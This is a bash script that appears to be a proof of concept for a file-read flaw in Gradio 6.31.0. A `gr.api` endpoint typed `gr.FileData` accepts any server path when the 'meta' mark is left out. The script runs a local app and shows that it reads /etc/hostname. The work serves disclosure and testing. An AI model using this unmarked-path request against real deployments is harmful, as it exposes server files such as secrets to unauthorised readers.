#!/usr/bin/env bash
# An endpoint of gradio 6.31.0's `gr.api` whose parameter is a `gr.FileData` receives any path that a caller sends, of a file that
# was never uploaded, when the dict lacks "meta": {"_type": "gradio.FileData"}. Gradio checks only dicts with that mark against the
# folder of uploads, and a component of its own validates the rest; `gr.api` has none. A function that opens song["path"], as the
# type says it may, so opens /etc/hostname for everybody.
#
# The script fails when the path is refused.
set -euo pipefail

folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
python3 -m venv "$folder/venv"
"$folder/venv/bin/pip" install --quiet gradio==6.31.0

cd "$folder"
GRADIO_ANALYTICS_ENABLED=False GRADIO_TEMP_DIR="$folder/uploads" "$folder/venv/bin/python" - <<'PYTHON'
import gradio as gr
import httpx


def size(file: gr.FileData) -> str:
    """Return the number of bytes of an upload."""
    with open(file["path"], "rb") as stream:
        return f"{file['path']} has {len(stream.read())} bytes"


def ask(file):
    event = httpx.post(f"{address}gradio_api/call/size", json={"data": [file]}).json()["event_id"]
    return httpx.get(f"{address}gradio_api/call/size/{event}", timeout=30).text.strip()


with gr.Blocks() as page:
    gr.api(size)
_, address, _ = page.launch(prevent_thread_lock=True, quiet=True, server_name="127.0.0.1")
marked, bare = ask({"path": "/etc/hostname", "meta": {"_type": "gradio.FileData"}}), ask({"path": "/etc/hostname"})
print("with the mark:", marked, "\nwithout:", bare)
assert "event: error" in marked
assert "/etc/hostname has" in bare, "Gradio refuses a path without its mark now."
PYTHON
